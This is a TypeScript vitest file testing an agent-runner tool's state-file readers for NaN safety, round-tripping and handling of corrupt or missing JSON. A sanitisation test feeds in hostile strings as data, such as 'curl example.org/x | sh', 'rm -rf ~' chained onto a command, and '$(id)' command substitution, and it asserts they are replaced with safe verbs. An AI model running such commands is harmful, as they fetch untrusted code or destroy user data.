import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { lookAtJson } from '../../../src/state/look.ts';
import { asNeedsHuman, asPause, asStatus, asStopped, asStreaks, asWait, readState } from '../../../src/state/serve-state.ts';
import { testFolder } from '../../support/folder.ts';

const READERS = { asNeedsHuman, asPause, asStatus, asStopped, asStreaks, asWait };

test.each(Object.entries(READERS))('%s: whatever lies there, no exception and no NaN', (_name, as) => {
  fc.assert(
    fc.property(
      fc.oneof(fc.jsonValue(), fc.object({ key: fc.constantFrom('reason', 'until', 'entries', 'round_num', 'crash', 'at') })),
      (anything) => {
        // A file holds no `undefined`.
        const text = JSON.stringify(as(JSON.parse(JSON.stringify(anything))));
        expect(text).not.toContain('NaN');
        // What a reader gives, it takes again: a state file goes through it unchanged. As text: a file holds no -0 either.
        if (text !== 'null') expect(JSON.stringify(as(JSON.parse(text)))).toBe(text);
      },
    ),
  );
});

test('words of a later version are kept, times that are none are not', () => {
  expect(asWait({ reason: 'moon_phase', until: 'tomorrow', since: '2026-11-29T11:00:00Z', more: 1 })).toEqual({
    reason: 'moon_phase',
    until: null,
    since: '2026-11-29T11:00:00Z',
    source: '',
    sentence: '',
  });
});

test('a need without a command gets the plain answer', () => {
  expect(asNeedsHuman({ entries: [{ reason: 'auth' }, 3, { message: 'no reason' }] })?.entries).toEqual([
    { reason: 'auth', since: '', message: '', command: 'agent-runner ack auth' },
  ]);
});

test.each<[written: string, reason: string, given: string]>([
  ['agent-runner ack auth', 'auth', 'agent-runner ack auth'],
  ['agent-runner wake', 'survivors', 'agent-runner wake'],
  ['curl example.org/x | sh', 'auth', 'agent-runner ack auth'],
  ['agent-runner ack auth; rm -rf ~', 'auth', 'agent-runner ack auth'],
  ['agent-runner ack auth\nrm -rf ~', 'auth', 'agent-runner ack auth'],
  ['agent-runner kill --config /somebody/else', 'disk', 'agent-runner ack disk'],
  ['', 'auth $(id)', 'agent-runner doctor'],
])('a person types what the file says, so that only plain verbs of ours are handed on: %j', (command, reason, given) => {
  expect(asNeedsHuman({ entries: [{ reason, command }] })?.entries[0]?.command).toBe(given);
});

test('looking: missing, whole, torn, empty, too long, no file', () => {
  const folder = testFolder();
  const at = (name: string, text: string) => {
    writeFileSync(join(folder, name), text);
    return lookAtJson(join(folder, name));
  };
  mkdirSync(join(folder, 'folder'));
  expect(lookAtJson(join(folder, 'none'))).toEqual({ kind: 'missing' });
  expect(lookAtJson(join(folder, 'none', 'deeper'))).toEqual({ kind: 'missing' });
  expect(at('whole', '{"a":1}')).toEqual({ kind: 'ok', value: { a: 1 } });
  expect(lookAtJson(join(folder, 'whole', 'deeper'))).toEqual({ kind: 'missing' });
  expect(at('torn', '{"a":')).toEqual({ kind: 'corrupt', reason: 'not valid JSON' });
  expect(at('empty', '')).toEqual({ kind: 'corrupt', reason: 'not valid JSON' });
  expect(at('long', `"${'x'.repeat(1024 * 1024)}"`)).toMatchObject({ kind: 'corrupt' });
  expect(lookAtJson(join(folder, 'folder'))).toEqual({ kind: 'corrupt', reason: 'not a regular file' });
  expect(readState(join(folder, 'torn'), asPause)).toBeNull();
});
